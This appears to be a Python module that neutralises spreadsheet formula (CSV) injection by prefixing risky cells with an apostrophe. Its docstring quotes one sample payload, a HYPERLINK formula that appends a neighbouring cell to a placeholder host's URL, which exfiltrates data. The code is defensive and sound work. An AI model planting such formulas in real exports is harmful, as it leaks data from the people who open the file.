"""Spreadsheet formulas neutralised in CSV files people open (OWASP "CSV injection").

A title typed by a stranger, ``=HYPERLINK("http://x/?"&A1, "click")``, becomes a live formula
when a partner opens the export in a spreadsheet: it can send neighbouring cells away or run
commands. Any text cell starting with ``= + - @``, a tab or a carriage return gets a leading
apostrophe, which spreadsheets show as text and never evaluate. Cells that are only a number
("-5", "+7 701 123 4567") are left alone: they cannot call anything.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?[0-9][0-9 .,]*$")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in row]


def safe_dict(row: Mapping[str, object]) -> dict[str, object]:
    return {k: safe_cell(v) for k, v in row.items()}
